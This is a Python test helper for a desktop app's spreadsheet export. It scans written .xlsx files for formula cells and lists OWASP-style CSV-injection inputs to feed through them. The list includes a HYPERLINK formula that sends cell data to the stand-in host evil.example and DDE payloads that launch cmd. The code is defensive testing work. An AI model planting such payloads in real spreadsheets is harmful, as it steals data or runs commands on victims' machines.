"""Looking inside the .xlsx files the program writes: formula cells (there must be none made from data),
and the hostile texts used to look for them (OWASP "CSV injection")."""

from __future__ import annotations

import zipfile
from pathlib import Path
from xml.etree import ElementTree

from mutualaid_desktop.io.xlsx_cells import text_value

# what a spreadsheet would run if the cell were a formula: every text column of every writer gets these
HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点我领取")',
    "+1-2",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=SUM(1,2)\r\n=2",
    'DDE("cmd";"/C calc";"x")',
    "=",
    "王=秀英",
)


def formula_cells(path: str | Path) -> list[str]:
    """Every formula in the workbook at `path`: cells openpyxl reads as formulas (data_type "f") and every
    <f> element in the sheets' XML inside the zip (which openpyxl could miss). [] when there is none."""
    from openpyxl import load_workbook

    found: list[str] = []
    workbook = load_workbook(path)  # not read-only: data_type is the cell's own
    try:
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    finally:
        workbook.close()
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not (name.startswith("xl/worksheets/") and name.endswith(".xml")):
                continue
            for element in ElementTree.fromstring(archive.read(name)).iter():
                if element.tag.rsplit("}", 1)[-1] == "f":
                    found.append(f"{name}: <f>{element.text or ''}</f>")
    return found


def texts(path: str | Path) -> list[str]:
    """Every str cell value of every sheet (read back with openpyxl), in order."""
    from openpyxl import load_workbook

    workbook = load_workbook(path, read_only=True)
    try:
        return [
            value
            for sheet in workbook.worksheets
            for row in sheet.iter_rows(values_only=True)
            for value in row
            if isinstance(value, str)
        ]
    finally:
        workbook.close()


def stored(text: str) -> str:
    """How `text` reads back from a cell (line breaks as \\n: io/xlsx_cells.text_value)."""
    return text_value(text)
